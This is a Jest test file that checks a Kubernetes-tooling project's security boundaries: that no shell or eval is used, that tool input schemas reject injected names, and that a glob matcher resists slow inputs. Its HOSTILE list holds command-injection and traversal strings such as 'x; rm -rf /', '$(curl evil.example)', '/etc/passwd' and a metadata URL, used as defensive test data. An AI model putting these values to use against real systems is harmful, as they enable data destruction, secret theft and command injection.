import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import type { z } from 'zod';
import { systems } from '../../src/tools/catalog.ts';
import { readSources } from '../support/source-files.ts';

const root = join(import.meta.dirname, '../..');
const sources = readSources(join(root, 'src'));

describe('what text from outside could reach', () => {
  test('is no shell and no other program: nothing that handles it starts one', () => {
    const starts = sources.filter(({ imports }) => imports.some(({ to }) => to === 'node:child_process'));
    expect(starts.length).toBeGreaterThan(3);
    const handlesOutside = /^(domain|sdk|workflows|activities|agents|tools|intake|slack|api|workers)\//;
    // One thing does: a scanner, whose program and arguments are its connection's settings and nobody else's.
    expect(starts.map(({ path }) => path).filter((path) => handlesOutside.test(path))).toEqual([
      'tools/scanner/run-program.ts',
    ]);
    const callers = sources.filter(({ imports }) => imports.some(({ to }) => to.endsWith('scanner/run-program.ts')));
    expect(callers.map(({ path }) => path)).toEqual(['tools/scanner/connect.ts']);
    // The authority starts git for its own folders and anchors: with a list of arguments, never with a line of text.
    const names = starts.flatMap(({ path }) =>
      (/\{([^}]*)\} from 'node:child_process'/.exec(readFileSync(join(root, 'src', path), 'utf8'))?.[1] ?? '?').split(
        ',',
      ),
    );
    expect([...new Set(names.map((name) => name.trim()))].toSorted()).toEqual([
      'execFile',
      'execFileSync',
      'spawn',
      'type ChildProcess',
    ]);
    expect(starts.filter(({ identifiers }) => identifiers.has('shell')).map(({ path }) => path)).toEqual([]);
  });

  test('is evaluated nowhere', () => {
    const evaluates = sources.filter(
      ({ identifiers, imports }) =>
        identifiers.has('eval') || identifiers.has('Function') || imports.some(({ to }) => to === 'node:vm'),
    );
    expect(evaluates.map(({ path }) => path)).toEqual([]);
  });
});

/** Names as somebody would plant them in an alert's labels or a model's arguments. */
const HOSTILE = [
  'x; rm -rf /',
  '$(curl evil.example)',
  '`id`',
  'a|b',
  'a && b',
  "a' or '1'='1",
  '../../kube-system/secrets',
  '..%2f..%2fsecrets',
  '-A',
  '--all',
  '--token=x',
  '*',
  'a b',
  'a\nb',
  'a\0b',
  '/etc/passwd',
  '__proto__',
  'https://169.254.169.254/',
];

describe('a name that would mean more than a name', () => {
  const kubernetes = systems.find(({ name }) => name === 'kubernetes');
  const tools: readonly { readonly name: string; readonly input: z.ZodType }[] = kubernetes?.tools ?? [];
  const fieldsOf = (input: z.ZodType): string[] =>
    ['namespace', 'name', 'kind'].filter((field) => 'shape' in input && field in Object(input.shape));

  test.each(tools.map((tool) => [tool.name, tool] as const))('is not taken by %s', (_, { input }) => {
    const fields = fieldsOf(input);
    expect(fields).toContain('namespace');
    for (const field of fields) {
      for (const hostile of HOSTILE) {
        const result = input.safeParse({ namespace: 'shop', name: 'checkout', [field]: hostile });
        const refused = result.error?.issues.some(({ path }) => path[0] === field);
        expect([field, hostile, refused]).toEqual([field, hostile, true]);
      }
    }
  });
});

test('a route’s pattern against a label made to be slow ends: it is no regular expression', () => {
  const glob = JSON.stringify(join(root, 'src/intake/glob.ts'));
  // In a process of its own, so that one that never ends fails this test and not all of them.
  const program = `const { matchesGlob } = await import(${glob});
    process.stdout.write(String(matchesGlob('a*'.repeat(60) + 'b', 'a'.repeat(60_000))));`;
  const node = process.execPath;
  expect(execFileSync(node, ['--input-type=module', '--eval', program], { timeout: 40_000, encoding: 'utf8' })).toBe(
    'false',
  );
});
